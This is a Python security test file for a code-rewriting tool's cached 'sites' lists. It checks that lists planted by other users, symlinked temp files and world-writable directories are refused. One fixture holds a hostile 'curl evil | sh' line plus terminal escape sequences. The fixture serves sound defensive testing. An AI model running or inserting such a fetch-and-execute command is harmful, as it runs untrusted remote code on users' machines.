# SPDX-License-Identifier: Apache-2.0
"""The lists by which code is rewritten: they are read from the installation, kept in the user's own
cache if there is one, and never taken from where others may write."""
import os
import pathlib
import re
import struct

from support import fermata, mpis, process
from support.cases import Skipped, check, check_equal, timeout
from support.namespaces import own_mounts

LISTS, LOWER = mpis.BUILD / "lib/fermata/sites", mpis.BUILD / "lib/fermata/lower"
TOOL = mpis.BUILD / "libexec/fermata/sites"
LIBC = pathlib.Path("/lib/x86_64-linux-gnu/libc.so.6")
OTHER, LAUNCHER = 65534, 70
REVISION = int(re.search(r"kFinderRevision = (\d+)",
                         (mpis.ROOT / "runtime/base/sites_revision.h").read_text())[1])
EVIL = b"run: curl evil | sh \x1b]0;owned\x07 \xc2\x9b31m"


def _build_id(path):
    notes = process.run(["readelf", "-n", path]).expect_success("readelf").out
    return bytes.fromhex(re.search(r"Build ID: (\w+)", notes)[1])


def _plant(directory):
    """A list, of the form that is believed, which says that libc is refused."""
    directory.mkdir(parents=True, exist_ok=True)
    key = _build_id(LIBC)
    head = struct.pack("<8sIIQQ20sIII", b"FSITES01", 1, 1, 0, LIBC.stat().st_size, key, len(key), 0,
                       REVISION)
    entry = directory / f"{key.hex()}.sites"
    entry.write_bytes(head + EVIL + b"\0")
    return entry


def _give_away(*paths):
    if os.getuid() != 0:
        raise Skipped("only root can make files of other users")
    for path in paths:
        os.chown(path, OTHER, OTHER)
        path.chmod(0o777)


def _job(work, script, home="home", **more):
    """A job under mounts of its own, whose installation cannot be written to."""
    variables = mpis.environment(FERMATA_DIR=str(work / "fermata"), HOME=str(work / home), **more)
    for name in ("XDG_CACHE_HOME", *([] if home else ["HOME"])):
        variables.pop(name, None)
    command = [fermata.FERMATA, "run", "-n", "2", "--mpi", "mpich", "--",
               mpis.program("mpich", "selfcheck"), "--steps", "2"]
    return process.run([*own_mounts(), "sh", "-c", script + ' && exec "$@"', "sh", *command], 110,
                       variables, work)


def _runs(result):
    result.expect_success("run")
    check_equal(mpis.checksum(result.out), mpis.expected("selfcheck", 2, 2), "checksum")
    check("curl" not in result.err, result.err)


READ_ONLY = f"mount --bind {LISTS} {LISTS} && mount -o remount,ro,bind {LISTS}"
EMPTY = f"mount -t tmpfs -o ro none {LISTS}"


@timeout(90)
def test_without_a_home_those_of_the_installation_are_read(work):
    """Nobody looks through a library again, and nothing is written."""
    (work / "home").write_text("no directory")
    _runs(_job(work, f"{READ_ONLY} && mount --bind /bin/false {TOOL}"))


@timeout(120)
def test_without_any_place_libraries_are_looked_through_each_time(work):
    (work / "home").write_text("no directory")
    _runs(_job(work, EMPTY))


@timeout(120)
def test_without_a_home_nothing_in_tmp_is_believed(work):
    """fermata/sites in the directory of temporary files, which anybody can make before."""
    place = work / "tmp/fermata/sites"
    entry = _plant(place)
    _give_away(place.parent, place, entry)
    before = entry.read_bytes()
    _runs(_job(work, EMPTY, home="", TMPDIR=str(work / "tmp")))
    check_equal([path.name for path in place.iterdir()], [entry.name], "what is there")
    check_equal(entry.read_bytes(), before, "the list of another user")


def _make_untrusted(whose):
    @timeout(120)
    def test(work):
        """In the user's cache, too, a list that others have made or may change is none."""
        place = work / "home/.cache/fermata/sites"
        entry = _plant(place)
        if whose == "directory":
            _give_away(place)
        elif whose == "list":
            _give_away(entry)
        else:
            entry.chmod(0o666)
        _runs(_job(work, EMPTY))
    return test


@timeout(120)
def test_the_users_own_cache_is_kept_and_used(work):
    (work / "home").mkdir()
    _runs(_job(work, EMPTY))
    kept = list((work / "home/.cache/fermata/sites").glob("*.sites"))
    check(len(kept) > 10, f"{len(kept)} lists in the user's cache")
    _runs(_job(work, f"{EMPTY} && mount --bind /bin/false {TOOL}"))


def test_texts_of_lists_do_not_command_the_terminal(work):
    _plant(work / "home/.cache/fermata/sites")
    result = _job(work, EMPTY)
    check_equal(result.code, LAUNCHER, result.err)
    check("curl evil" in result.err, f"the list was not read:\n{result.err}")
    check(not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", result.err), repr(result.err))


def test_lists_are_not_written_through_links(work):
    """The tool's process has the number 1 there, so the name of its file is known before."""
    words = [*own_mounts(), "--pid", "--fork"]
    lists, keep = work / "lists", work / "keep"
    lists.mkdir()
    keep.write_text("ten years of work")
    name = f"{_build_id(LIBC).hex()}.sites"
    (lists / f"{name}.1.tmp").symlink_to(keep)
    process.run([*words, TOOL, "--cache", lists, LIBC]).expect_success("sites")
    check_equal(keep.read_text(), "ten years of work", "the file behind the link")
    check_equal([path.name for path in lists.iterdir()], [name], "what is there")


def test_lists_are_kept_in_no_directory_of_others(work):
    lists = work / "lists"
    lists.mkdir()
    lists.chmod(0o777)
    result = process.run([TOOL, "--cache", lists, LIBC])
    check(result.code == 1 and f"others may write to {lists}" in result.err, result.err)
    check_equal(list(lists.iterdir()), [], "what is there")


def test_whether_lists_can_be_kept_is_asked_without_writing(work):
    """A file was made in the installation to find out, through any link of its name. No MPI is
    registered, as doctor would run a job on it, which keeps lists."""
    script = (f"mount -t tmpfs none {LOWER} && mount -t tmpfs -o mode=755 none {LISTS} && "
              f"stat -c %y {LISTS} && {fermata.FERMATA} doctor > doctor; stat -c %y {LISTS}")
    result = process.run([*own_mounts(), "sh", "-c", script], 60, mpis.environment(), work)
    before, after = result.expect_success("stat").out.splitlines()
    check_equal(after, before, "when the directory was last changed")
    check(str(LISTS) in (work / "doctor").read_text(), "doctor has asked")


def generate():
    return {f"test_an_untrusted_{whose}": _make_untrusted(whose)
            for whose in ("directory", "list", "mode")}
